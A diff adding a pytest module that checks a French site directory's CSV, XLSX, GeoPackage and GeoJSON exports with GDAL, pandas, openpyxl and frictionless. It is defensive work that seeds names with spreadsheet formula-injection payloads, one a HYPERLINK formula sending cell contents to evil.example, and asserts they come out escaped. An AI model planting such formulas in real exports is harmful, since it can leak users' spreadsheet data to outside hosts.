@@ -1,0 +1,145 @@
+"""Every export read as it comes by the tools people use: GDAL's ogrinfo (Debian's gdal-bin), pandas,
+the csv module, openpyxl and ``frictionless validate`` against the published schema; and no cell a
+spreadsheet would run as a formula."""
+import csv
+import io
+import json
+import shutil
+import subprocess
+from datetime import date
+
+import openpyxl
+import pandas
+import pytest
+from sqlmodel import select
+
+from carto.core import licences
+from carto.directory import sites
+from carto.directory.site_schema import SiteData
+from carto.publish import exports, table_schema
+from carto.query import sourcing
+from carto.storage import source_licences
+from carto.storage.models import Site
+from tests.conftest import make_client
+
+ogrinfo = pytest.mark.skipif(not shutil.which("ogrinfo"), reason="ogrinfo absent : installez gdal-bin (Debian)")
+frictionless = pytest.importorskip("frictionless", reason="frictionless absent : pip install frictionless")
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "\t=1+1", "@SUM(A1:A9)", "-2+3", " =1+1"]
+PHONE = "+33 2 99 12 34 56"
+
+
+@pytest.fixture
+def hostile(service):
+    """Sites whose names are spreadsheet formulas, one with a phone starting with « + »."""
+    with service.session() as session:
+        for n, name in enumerate(FORMULAS):
+            sites.create(session, SiteData(name=name, activities=["reemploi"], lon=-1.68 + n / 1000, lat=48.11,
+                                           phone=PHONE, description=name, opening_hours="Mo-Fr 09:00-12:00",
+                                           siret="73282932000074", verified_at=date(2026, 3, 2)),
+                         service.locator, actor="test", source="lvao", credit="ADEME")
+        source_licences.record(session, "lvao", licences.ETALAB)
+        session.commit()
+    return service
+
+
+def export(service, fmt, tmp_path, sep=","):
+    """The file of ``fmt`` as ``carto export`` writes it, with its Data Package for CSV."""
+    target = tmp_path / f"sites.{fmt}"
+    with service.session() as session:
+        results = sourcing.run(session, sourcing.parse(service, session))
+        t = exports.table(session, service.taxonomy, results, service.settings.public_base_url)
+        exports.write(t, fmt, target, sep)
+        if fmt == "csv":
+            table_schema.write_datapackage(t, service.taxonomy, service.settings.public_base_url, target, sep)
+    return target
+
+
+def gdal(*args) -> subprocess.CompletedProcess:
+    return subprocess.run(args, capture_output=True, text=True, timeout=60, check=True)
+
+
+@ogrinfo
+def test_gdal_finds_the_csv_header_and_points_without_warning(hostile, tmp_path):
+    path = export(hostile, "csv", tmp_path)
+    run = gdal("ogrinfo", "-ro", "-al", "-so", "-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat",
+               "-oo", "AUTODETECT_TYPE=YES", "-oo", "QUOTED_FIELDS_AS_STRING=YES", str(path))
+    assert "Geometry: Point" in run.stdout and f"Feature Count: {len(FORMULAS)}" in run.stdout
+    assert "\nname: String" in run.stdout  # the header, not a credit line
+    assert "siret: String" in run.stdout and "commune_code: String" in run.stdout  # codes, not numbers
+    assert "Warning" not in run.stderr + run.stdout
+
+
+@ogrinfo
+@pytest.mark.parametrize("fmt", ["gpkg", "geojson"])
+def test_gdal_reads_the_geopackage_and_geojson_as_points_without_warning(hostile, tmp_path, fmt):
+    path = export(hostile, fmt, tmp_path)
+    run = gdal("ogrinfo", "-ro", "-so", "-al", str(path))
+    assert "Geometry: Point" in run.stdout and f"Feature Count: {len(FORMULAS)}" in run.stdout
+    assert "Warning" not in run.stderr + run.stdout, run.stderr
+    if fmt == "gpkg":
+        assert "verified_at: DateTime" in run.stdout and "updated_at: DateTime" in run.stdout
+        converted = tmp_path / "copie.gpkg"  # and ogr2ogr copies it without a complaint
+        copy = gdal("ogr2ogr", "-f", "GPKG", str(converted), str(path), "sites")
+        assert "Warning" not in copy.stderr
+
+
+@pytest.mark.parametrize("sep", [",", ";"])
+def test_frictionless_validates_the_csv_against_its_datapackage_and_schema(hostile, tmp_path, sep):
+    path = export(hostile, "csv", tmp_path, sep)
+    package = tmp_path / "sites.datapackage.json"
+    report = frictionless.validate(str(package))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    described = json.loads(package.read_text(encoding="utf-8"))
+    assert described["resources"][0]["path"] == path.name
+    assert described["resources"][0]["schema"]["fields"] == table_schema.schema(hostile.taxonomy, decimal=(
+        "," if sep == ";" else "."))["fields"]
+
+
+def test_frictionless_validates_the_xlsx_and_geojson_rows_against_the_schema(hostile, tmp_path):
+    schema = frictionless.Schema.from_descriptor(table_schema.schema(hostile.taxonomy))
+    book = export(hostile, "xlsx", tmp_path)
+    report = frictionless.Resource(book.name, basepath=str(tmp_path), schema=schema,
+                                   control=frictionless.formats.ExcelControl(sheet="Sites")).validate(
+        checklist=frictionless.Checklist(skip_errors=["incorrect-label"]))  # headers: the titles
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    features = json.loads(export(hostile, "geojson", tmp_path).read_text(encoding="utf-8"))["features"]
+    lists = {c.name for c in exports.COLUMNS if c.kind == "list"}
+    rows = [{k: exports.LIST_SEPARATOR.join(v) if k in lists else v for k, v in f["properties"].items()}
+            for f in features]
+    report = frictionless.Resource(rows, schema=schema).validate()
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+
+
+def test_pandas_reads_the_semicolon_csv_as_french_spreadsheets_write_it(hostile, tmp_path):
+    path = export(hostile, "csv", tmp_path, ";")
+    frame = pandas.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", dtype={"siret": str})
+    assert list(frame.columns) == [c.name for c in exports.COLUMNS]
+    assert frame["lon"].dtype == float and frame["siret"].iloc[0] == "73282932000074"
+
+
+def test_no_csv_cell_starts_a_formula_and_a_phone_stays_readable(hostile, tmp_path):
+    rows = list(csv.DictReader(io.StringIO(export(hostile, "csv", tmp_path).read_text(encoding="utf-8-sig"))))
+    text = [c.name for c in exports.COLUMNS if c.kind in ("str", "code", "list")]
+    with hostile.session() as session:  # as stored: names come trimmed
+        stored = {s.id: s for s in session.exec(select(Site))}
+    assert {r["name"] for r in rows} == {"'" + stored[int(r["id"])].name for r in rows}
+    assert {r["description"] for r in rows} == {"'" + stored[int(r["id"])].description for r in rows}
+    assert {r["phone"] for r in rows} == {"'" + PHONE}
+    assert not [r[k] for r in rows for k in text if r[k].lstrip(" ").startswith(exports.FORMULA_STARTS)]
+
+
+def test_no_xlsx_cell_is_a_formula_and_text_stays_as_typed(hostile, tmp_path):
+    book = openpyxl.load_workbook(export(hostile, "xlsx", tmp_path))
+    cells = [c for row in book["Sites"].iter_rows(min_row=2) for c in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    with hostile.session() as session:
+        stored = set(session.exec(select(Site.name)))
+    assert {c.value for c in cells if c.column == 2} == stored  # written as strings: nothing added, nothing run
+    assert {c.value for c in cells if c.column == [x.name for x in exports.COLUMNS].index("phone") + 1} == {PHONE}
+
+
+def test_the_http_csv_is_the_same_file(hostile, tmp_path):
+    with make_client(hostile) as client:
+        served = client.get("/api/exports/sites.csv", params={"sep": ";"}).content
+    assert served == export(hostile, "csv", tmp_path, ";").read_bytes()
